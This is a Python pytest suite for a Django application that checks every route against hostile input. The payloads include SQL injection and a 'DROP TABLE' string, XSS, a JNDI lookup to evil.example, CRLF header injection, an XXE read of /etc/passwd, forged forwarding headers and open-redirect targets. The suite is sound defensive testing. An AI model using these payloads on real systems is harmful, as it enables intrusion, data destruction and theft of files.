"""What somebody tries who means harm, at every address: words that are code, bodies that are bombs, forged forms."""

import io
import logging
import re
from contextlib import contextmanager
from itertools import cycle, islice

import pytest
from django.conf import settings
from django.test import Client
from django.utils.html import escape

from core.access import PUBLIC, SIGNED_IN, may
from core.fields import uuid7
from stations.models import Person, User
from tests.access.blank import BLANK
from tests.api.doors import DOORS, NOUNS, Visitor, add_what_is_missing
from tests.api.test_canaries import NAME as DOCTORS_WORD
from tests.api.test_canaries import a_doctor_writes, told_on
from tests.demonstration import taken_back
from tests.factories.stations import token_for

WORDS = (
    "' OR '1'='1' --",
    '"; DROP TABLE stations_person; --',
    "{{7*7}}{% debug %}",
    "<script>alert(1)</script>",
    "${jndi:ldap://evil.example/a}",
    "x\r\nSet-Cookie: owned=1",
    "x\x00y",
    "%00%27%0d%0aX-Owned: 1",
    "村" * 200,
)
#: One of each kind.
WORST = (WORDS[0], WORDS[3], WORDS[6])
BOMBS = {
    "too large": (b'{"reason": "' + b"a" * 1_048_577 + b'"}', "application/json", {413}),
    "too deep": (b"[" * 100_000, "application/json", {400}),
    "deep and closed": (b'{"a":' * 5_000 + b"1" + b"}" * 5_000, "application/json", {400}),
    "no json": (b"\xff\xfe{", "application/json", {400}),
    "a number that is none": (b'{"amount": NaN}', "application/json", {400}),
    "a list": (b"[1, 2]", "application/json", {400}),
    "a form": (b"a=b", "application/x-www-form-urlencoded", {415}),
    "xml": (b'<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>', "application/xml", {415}),
    "half a form": (b"--x\r\nContent-Disposition: form-data", "multipart/form-data; boundary=x", {400}),
}
API_VERBS = [door for door in DOORS if door.is_api and door.method != "get" and door.noun_is_known]
READS = [door for door in DOORS if door.method == "get" and door.noun_is_known]
QUESTIONS = [door for door in READS if not door.names]


@pytest.fixture
def large_requests(caplog):
    """Pytest keeps every log record with its request; a thousand large ones are too much."""
    caplog.set_level(logging.CRITICAL, "django")


@pytest.fixture
def furnished(world):
    add_what_is_missing(world)
    return world


def asked_with(visitor, doors_and_words):
    """Addresses that break, or that answer with what was asked, when they are asked with these words."""
    names = ("q", "number", "amount", "phone_tail", "cursor", "status", "after", "station", "category", "code", "at",
             "date", "lat", "lon", "service", "purpose", "month", "page", "in", "language", "scope")  # fmt: skip
    wrong = []
    for door, words in doors_and_words:
        with taken_back():
            answer = visitor.asks(door, dict.fromkeys(names, words))
        text = answer.getvalue().decode(errors="replace")
        unsafe = "<script>alert(1)" in text and not answer["Content-Type"].startswith("application/")
        if answer.status_code >= 500 or unsafe or "X-Owned" in answer.headers or "owned" in answer.cookies:
            wrong.append((door.route, words[:20], answer.status_code, getattr(answer, "exc_info", None)))
    return wrong


#: Two readers ask each address with different words; all words at each of them are slow.
@pytest.mark.parametrize(("username", "first"), [("partner", 0), ("finance", 1)])
def test_words_that_are_code_stay_words_in_a_question(furnished, large_requests, username, first):
    visitor = Visitor(furnished.user(username), furnished)
    assert asked_with(visitor, zip(QUESTIONS, islice(cycle(WORDS), first, None), strict=False)) == []


@pytest.mark.slow
@pytest.mark.parametrize("words", WORDS, ids=lambda words: repr(words[:20]))
@pytest.mark.parametrize("username", ["partner", "finance"])
def test_words_that_are_code_stay_words_in_every_question(furnished, large_requests, username, words):
    visitor = Visitor(furnished.user(username), furnished)
    assert asked_with(visitor, ((door, words) for door in QUESTIONS)) == []


def sent_with(world, doors_and_bombs):
    """Verbs that answer one of these bodies otherwise than with its refusal."""
    headers = {"Authorization": f"Token {token_for(world.user('partner'))}"}
    client, wrong = Client(raise_request_exception=False), []
    for door, bomb in doors_and_bombs:
        body, content_type, expected = BOMBS[bomb]
        with taken_back():
            key = {"Idempotency-Key": uuid7().hex}
            answer = getattr(client, door.method)(door.path(world), body, content_type, headers=headers | key)
        takes_nothing = getattr(door.view, "In", None) is None and bomb == "a list"
        ignored = {200, 201, 202, 204, 409, 422} if takes_nothing else set()
        if answer.status_code not in expected | ignored | {403, 404, 415}:
            wrong.append((door.method, door.route, bomb, answer.status_code, answer.content[:200]))
    return wrong


def test_no_verb_is_broken_by_a_body(furnished, large_requests):
    """Each by one of them; all of them at each verb are slow."""
    assert sent_with(furnished, zip(API_VERBS, cycle(BOMBS), strict=False)) == []


@pytest.mark.slow
@pytest.mark.parametrize("bomb", BOMBS)
def test_no_body_breaks_a_verb(furnished, large_requests, bomb):
    assert sent_with(furnished, ((door, bomb) for door in API_VERBS)) == []


def test_no_form_breaks_a_page(furnished):
    visitor = Visitor(furnished.user("partner"), furnished)
    many = {f"field{number}": "1" for number in range(settings.DATA_UPLOAD_MAX_NUMBER_FIELDS + 1)}
    large = {"q": "a" * (settings.DATA_UPLOAD_MAX_MEMORY_SIZE + 1)}
    for content in (many, large):
        answer = visitor.browser.post("/people/", content, headers={})
        assert answer.status_code in {200, 400}
        answer = visitor.browser.generic(
            "POST", "/people/", "&".join(f"{name}={value}" for name, value in content.items()),
            "application/x-www-form-urlencoded",
        )  # fmt: skip
        assert answer.status_code == 400


@contextmanager
def written_logs():
    """What the system writes while this is open."""
    stream = io.StringIO()
    handler = logging.StreamHandler(stream)
    formatter = dict(settings.LOGGING["formatters"]["json"])
    handler.setFormatter(formatter.pop("()")(**formatter))
    logging.getLogger().addHandler(handler)
    try:
        yield stream
    finally:
        logging.getLogger().removeHandler(handler)


#: Where a person's own name is the answer: read back at the counter, or shown for seconds after a reason was given.
SHOWS_A_PERSON = re.compile(
    r"people/<uuid:person_id>/|households/<|people/reveals/<|people/guardianships/<|finance/bills/<uuid"
    r"|finance/loans/(?:applications|running|groups)/<uuid"
    r"|finance/insurance/(?:claims|policies|weather/index-payouts)/<uuid"
    r"|finance/payouts/payees/$"  # the officer who confirms an account compares the names
    r"|finance/tills/cash-reports/<int"  # the officer reports this person to the authority
    r"|logistics/parcels/<uuid|orders/(?:purchases|goods-returns|produce/harvests|produce/intakes|produce/farmers)/<uuid"
    r"|orders/presale-orders/<uuid"
    r"|health/(?:appointments|chronic|consultations|cases|prescriptions)/<uuid|education/safeguarding/children/<uuid"
    r"|orders/shops/|^shop/<str"  # the farmer agreed to be named
    r"|education/hotlines/(?:calls|children)/<uuid"
    r"|education/tutoring/(?:tutoring-sessions|learners)/<uuid"
    r"|education/quizzes/quiz-(?:results|attempts)/<uuid"
    r"|education/rosters/roster-entries/<uuid|education/packages/(?:class-enrolments|scorm-states)/<uuid"
    r"|education/homework/homework-(?:tasks|submissions)/<uuid"
    r"|education/supplies/(?:children|handovers|kit-entitlements)/<uuid"
    r"|education/libraries/book-(?:holds|loans)/<uuid|education/learners/learner-(?:classes|screens|enrolments)/<uuid"
    r"|education/courses/(?:classes|lessons|class-enrolments|course-certificates)/"
    r"|education/skills/training-sessions/<uuid"
    r"|promotion-events/<uuid"
    r"|checkup-(?:rosters|days|orders)/<uuid"
    r"|record-readers/<uuid"  # the name is read back before anybody is allowed to read
    r"|^calendars/<uuid"  # the counter reads the name back before an address goes to the phone
)


#: What a proxy would say, and what anybody can say of it.
FORWARDED = {
    "X-Forwarded-Host": "evil.example",
    "X-Forwarded-Proto": "https",
    "X-Original-URL": "/admin/",
    "X-Rewrite-URL": "/admin/",
    "Forwarded": "host=evil.example",
}
STORED = "<script>alert(1)</script>{{7*7}}"


@pytest.fixture
def named_by_code(furnished):
    """A resident, a helper and a station whose names are code."""
    Person.objects.filter(pk=furnished.resident.pk).update(full_name=f"甲{STORED}", preferred_name=f"甲{STORED}")
    User.objects.filter(username="helper").update(first_name=f"乙{STORED}")
    furnished.station.name = STORED
    furnished.station.save()
    return furnished


def names_and_phones():
    """What finds those of the residents, as they stand in an answer: one search for all of them."""
    staff = {each.shown_name for each in User.objects.all()}
    people = Person.objects.exclude(full_name__in=staff)
    names = {person.full_name for person in people if len(person.full_name) > 2}
    phones = {str(person.phone).removeprefix("+86") for person in people if person.phone}
    assert len(names) > 20
    assert len(phones) > 20
    return any_of(names | {escape(name) for name in names}), any_of(phones)


def any_of(words):
    """One pattern for many words: an answer is read once, not once for each of them."""
    return re.compile("|".join(map(re.escape, sorted(words))))


def faults_of(door, answer, names, phones):
    """What is wrong with an answer: it tells of a resident, may be kept, runs what was typed, or believes a header."""
    text, policy = answer.getvalue().decode(errors="replace"), answer.get("Cache-Control", "")
    if "no-store" not in policy and not (door.verb == PUBLIC or door.route.endswith("docs/style/")):
        yield f"may be kept: {policy}"
    if DOCTORS_WORD in text:
        yield "tells what a doctor wrote"
    if told := phones.findall(text):
        yield f"tells of {told[:3]}"
    if not SHOWS_A_PERSON.search(door.route) and (told := names.findall(text)):
        yield f"tells of {told[:3]}"
    is_file = answer.get("Content-Disposition", "").startswith("attachment")
    if not door.is_api and not is_file and ("<script>alert(1)" in text or "</script>49" in text):
        yield "runs what was typed"
    if "evil.example" in text or "evil.example" in answer.get("Location", ""):
        yield "believes a header"


#: In every run each address is opened by the first of these who may; with `--all` by each who may.
FIRST_READERS = ("partner", "manager", "finance")


def first_opened_by(world, username):
    """What this reader opens in every run: what nobody before may open, and what each finds otherwise."""
    place = FIRST_READERS.index(username)
    reader, *before = (world.user(name) for name in (username, *FIRST_READERS[:place]))
    return [door for door in READS if opens(reader, door) and not any(opens_alike(user, door) for user in before)]


def opens(user, door):
    return door.verb is None or may(user, door.verb)


def opens_alike(user, door):
    """A home, what waits and what is found differ by post."""
    return door.verb != SIGNED_IN and opens(user, door)


def opened(world, settings, user, doors):
    """What is wrong with the answers behind these doors, and how many show a name that is code."""
    settings.ALLOWED_HOSTS = ["testserver"]
    visitor = Visitor(user, world, FORWARDED)
    names, phones = names_and_phones()
    wrong, shown = [], 0
    with written_logs() as logs:
        for door in filter(visitor.is_let_in, doors):
            answer = visitor.tries(door)
            wrong += [(door.route, fault) for fault in faults_of(door, answer, names, phones)]
            shown += escape("<script>alert(1)") in answer.getvalue().decode(errors="replace")
    written = logs.getvalue()
    assert [*names.findall(written), *phones.findall(written)] == []
    assert written.count("\n") > 50
    return wrong, shown


@pytest.mark.parametrize(("username", "fewest"), [("partner", 3), ("manager", 1), ("finance", 0)])
def test_whatever_is_opened_tells_of_no_resident_runs_nothing_and_is_not_kept(
    named_by_code, settings, username, fewest
):
    """And of nothing that a doctor wrote."""
    a_doctor_writes(named_by_code)
    doors = first_opened_by(named_by_code, username)
    wrong, shown = opened(named_by_code, settings, named_by_code.user(username), doors)
    assert wrong == []
    assert shown >= fewest
    assert told_on() == []


@pytest.mark.slow
@pytest.mark.parametrize("username", [*FIRST_READERS, "stranger", "helper", "clerk", "auditor", "admin"])
def test_the_same_for_whoever_opens_it(named_by_code, settings, username):
    user = named_by_code.stranger if username == "stranger" else named_by_code.user(username)
    wrong, _shown = opened(named_by_code, settings, user, READS)
    assert wrong == []


def test_a_forged_form_does_nothing_anywhere(furnished, settings):
    settings.TEMPLATES = BLANK
    partner = furnished.user("partner")
    visitor = Visitor(partner, furnished)
    forger = Client(enforce_csrf_checks=True, raise_request_exception=False)
    forger.cookies = visitor.browser.cookies
    open_stations = []
    for door in DOORS:
        if not door.noun_is_known or (door.is_api and door.method == "get"):
            continue
        send = getattr(forger, door.method if door.is_api else "post")
        with taken_back():
            answer = send(door.path(furnished), {}, "application/json", headers={"Idempotency-Key": uuid7().hex})
        if answer.status_code not in {403, 405, 415}:
            open_stations.append((door.route, answer.status_code))
    assert open_stations == []


def test_a_host_that_is_not_ours_is_answered_nothing(furnished, settings):
    settings.ALLOWED_HOSTS = ["testserver"]
    browser = Visitor(furnished.user("partner"), furnished).browser
    for path in ("/", "/sign-in/first/", f"/s/{furnished.station.code}", "/api/v1/divisions/"):
        assert browser.get(path, headers={"Host": "evil.example"}).status_code == 400, path


@pytest.mark.parametrize(
    "target", ["https://evil.example/", "//evil.example", "/\\evil.example", "javascript:alert(1)"]
)
def test_choosing_a_language_leads_to_no_other_site(world, target):
    answer = Client().post("/language/", {"language": "en", "next": target}, headers={"Referer": target})
    assert answer.status_code == 303
    assert answer["Location"] == "/"


def test_every_noun_is_tried():
    assert {door.noun for door in DOORS if door.names} <= NOUNS.keys()
